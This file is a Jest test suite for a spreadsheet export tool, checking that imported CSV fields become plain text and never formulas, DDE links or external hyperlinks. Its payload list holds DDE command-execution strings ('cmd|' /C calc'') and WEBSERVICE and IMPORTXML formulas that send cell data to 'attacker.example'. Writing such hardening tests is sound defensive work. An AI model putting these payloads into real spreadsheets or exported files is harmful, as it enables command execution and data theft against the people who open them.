/**
 * Formula and link injection: cells starting with = + - @, tab or CR, and DDE payloads, put in
 * every imported field (label, owners, plan, results, next plan, note, even the file name),
 * come out as the same text and never as a formula, a DDE link or an external hyperlink — in the
 * .xlsx (read back with SheetJS and from the raw XML) and in Excel (the strict simulator).
 */
import { strFromU8 } from "fflate";
import { applyWorkbookPlan } from "../../src/excel/applyPlan";
import type { ExcelHost } from "../../src/excel/host";
import type { PlanTable } from "../../src/domain/model";
import { buildPlanTable } from "../../src/domain/pipeline";
import { importFile } from "../../src/importers";
import { buildWorkbookPlan } from "../../src/workbook/buildWorkbookPlan";
import type { WorkbookPlan } from "../../src/workbook/plan";
import { renderXlsx } from "../../src/xlsx/renderXlsx";
import { createExcelSimulator, type ExcelSimulator, type SimCell } from "../support/excelSimulator";
import { readBack } from "../xlsx/readBack";

const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://x","y")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "=1+1",
  "+81-3-1234-5678",
  "-1",
  "@A1",
  "\t=1+1",
  "\r=1+1",
  '=WEBSERVICE("http://attacker.example/?"&A1)',
  '=IMPORTXML("http://attacker.example","//a")',
  "＝1+1",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
];

const HEADER = [
  "項番",
  "担当府省庁",
  "2023年度年次計画",
  "成果・進捗状況",
  "2024年度年次計画",
  "備考",
];

function csvCell(v: string): string {
  return /[",\r\n]/u.test(v) ? `"${v.replace(/"/gu, '""')}"` : v;
}

/** One measure per payload, the payload in every text field; plus payloads as owner names. */
function hostileCsv(): string {
  const rows = [HEADER];
  PAYLOADS.forEach((p, i) => {
    rows.push([
      `(${"アイウエオカキクケコサシスセソタチツテト"[i]})`,
      i % 3 === 0 ? `総務省\n${p}` : "総務省",
      p,
      p,
      p,
      p,
    ]);
  });
  // A payload in the label too (an id cannot be a formula either).
  rows.push([
    PAYLOADS[0],
    "経済産業省",
    "経済産業省において、支援を行う。",
    "支援した。",
    "引き続き、支援を行う。",
    "",
  ]);
  return rows.map((r) => r.map(csvCell).join(",")).join("\r\n") + "\r\n";
}

const FILE = "=cmd|' calc'!A0.csv";
let table: PlanTable;
let plan: WorkbookPlan;
const counts = { payloads: PAYLOADS.length, xlsxCells: 0, simCells: 0, formulas: 0 };

beforeAll(async () => {
  table = buildPlanTable([await importFile(FILE, new TextEncoder().encode(hostileCsv()))]);
  plan = buildWorkbookPlan(table, { lang: "ja" });
});
afterAll(() => console.log(`hardening/injection: ${JSON.stringify(counts)}`));

/** The CR payload arrives as LF: CSV line endings are normalised, the text is otherwise kept. */
const asImported = (p: string) => p.replace(/\r\n?/gu, "\n");

describe("imported text reaches the model unchanged", () => {
  it("every payload is kept as written in plan, results, next plan and note, and flagged formula-like", () => {
    expect(table.measures).toHaveLength(PAYLOADS.length + 1);
    PAYLOADS.forEach((p, i) => {
      const m = table.measures[i];
      // tidyCell trims the ends of a cell: a leading tab/CR is white space and is trimmed away.
      const kept = asImported(p).trim();
      expect([m.plan, m.results, m.nextPlan, m.note]).toEqual([kept, kept, kept, kept]);
    });
    const flagged = new Set(
      table.problems.filter((p) => p.code === "formula-like").map((p) => p.row)
    );
    for (const [i, p] of PAYLOADS.entries())
      if (/^[=+\-@]/u.test(p.trim())) expect(flagged.has(i + 2)).toBe(true);
  });
});

describe(".xlsx renderer: no formula, no DDE, no external link", () => {
  let bytes: Uint8Array;
  beforeAll(async () => {
    bytes = await renderXlsx(plan);
  });

  it("no cell of any sheet has a formula, and every payload is a text cell with its exact value", () => {
    const rb = readBack(bytes);
    const seen = new Set<string>();
    for (const name of rb.book.SheetNames) {
      const ws = rb.book.Sheets[name];
      for (const [addr, cell] of Object.entries(ws)) {
        if (addr.startsWith("!")) continue;
        counts.xlsxCells++;
        const c = cell as { f?: string; t: string; v: unknown };
        if (c.f !== undefined) counts.formulas++;
        expect({ sheet: name, addr, f: c.f }).toEqual({ sheet: name, addr, f: undefined });
        if (typeof c.v === "string") seen.add(c.v);
      }
    }
    for (const p of PAYLOADS) expect(seen.has(asImported(p).trim())).toBe(true);
  });

  it("the package holds no external link, DDE link or external relationship", () => {
    const rb = readBack(bytes);
    const paths = Object.keys(rb.parts);
    expect(paths.filter((p) => /externalLink|connections|queryTable/iu.test(p))).toEqual([]);
    for (const p of paths.filter((x) => x.endsWith(".rels")))
      expect(rb.text(p)).not.toMatch(/TargetMode="External"/u);
    for (const p of paths.filter((x) => /^xl\/worksheets\/sheet\d+\.xml$/u.test(x))) {
      const xml = strFromU8(rb.parts[p]);
      expect(xml).not.toMatch(/<f[ >]/u);
      expect(xml).not.toMatch(/ddeLink|<hyperlink [^>]*r:id=/u);
    }
  });

  it("a file read back by the importers gives the same payload text (round trip)", async () => {
    const again = buildPlanTable([await importFile("back.xlsx", bytes)]);
    expect(again.measures.map((m) => [m.plan, m.results, m.nextPlan])).toEqual(
      table.measures.map((m) => [m.plan, m.results, m.nextPlan])
    );
  });
});

describe("Office.js renderer on the strict simulator: payloads stay text", () => {
  let sim: ExcelSimulator;
  beforeAll(async () => {
    sim = createExcelSimulator({ sheets: ["Sheet1"] });
    await applyWorkbookPlan(plan, { host: sim as unknown as ExcelHost });
  });

  it("no generated cell holds a formula or an external hyperlink, and every payload is there as text", () => {
    const seen = new Set<string>();
    for (const s of sim.workbook.sheets) {
      const snap = s.snapshot() as { cells: Record<string, SimCell> };
      for (const [addr, c] of Object.entries(snap.cells)) {
        counts.simCells++;
        if (c.formula !== null) counts.formulas++;
        expect({ sheet: s.name, addr, formula: c.formula }).toEqual({
          sheet: s.name,
          addr,
          formula: null,
        });
        expect(c.hyperlink?.address).toBeUndefined();
        if (typeof c.value === "string") seen.add(c.value);
      }
    }
    for (const p of PAYLOADS) expect(seen.has(asImported(p).trim())).toBe(true);
  });
});

describe("untrimmed text starting with tab or CR (as a pasted or report-text source could give) stays text", () => {
  const raw = ["\t=1+1", "\r=1+1", "\r\n@SUM(1+1)*cmd|' /C calc'!A0", "\t+cmd|' /C calc'!A0"];
  let rawPlan: WorkbookPlan;
  beforeAll(() => {
    const measures = table.measures
      .slice(0, raw.length)
      .map((m, i) => ({ ...m, plan: raw[i], results: raw[i], nextPlan: raw[i] }));
    rawPlan = buildWorkbookPlan({ ...table, measures }, { lang: "en" });
  });

  it("in the .xlsx: string cells with the exact text, no formula", async () => {
    const rb = readBack(await renderXlsx(rawPlan));
    const values = new Set<unknown>();
    for (const name of rb.book.SheetNames) {
      for (const [addr, cell] of Object.entries(rb.book.Sheets[name])) {
        if (addr.startsWith("!")) continue;
        expect((cell as { f?: string }).f).toBeUndefined();
        values.add((cell as { v: unknown }).v);
      }
    }
    // XML turns a literal CR into LF when read (XML 1.0 §2.11): the line break type may change, nothing else.
    for (const r of raw) expect(values.has(r) || values.has(asImported(r))).toBe(true);
  });

  it("in Excel (simulator): text cells with the exact text, no formula", async () => {
    const sim = createExcelSimulator();
    await applyWorkbookPlan(rawPlan, { host: sim as unknown as ExcelHost });
    const values = new Set<unknown>();
    for (const s of sim.workbook.sheets) {
      for (const c of Object.values((s.snapshot() as { cells: Record<string, SimCell> }).cells)) {
        expect(c.formula).toBeNull();
        values.add(c.value);
      }
    }
    for (const r of raw) expect(values.has(r)).toBe(true);
  });
});

// Runs last (Jest runs a file's tests in order): the figures README's "Nothing runs" quotes.
it("README figures: 15 payloads, 1,068 cells per renderer, 0 formulas", () => {
  expect(counts.payloads).toBe(15);
  expect(counts.xlsxCells).toBe(1068);
  expect(counts.simCells).toBe(1068);
  expect(counts.formulas).toBe(0);
});
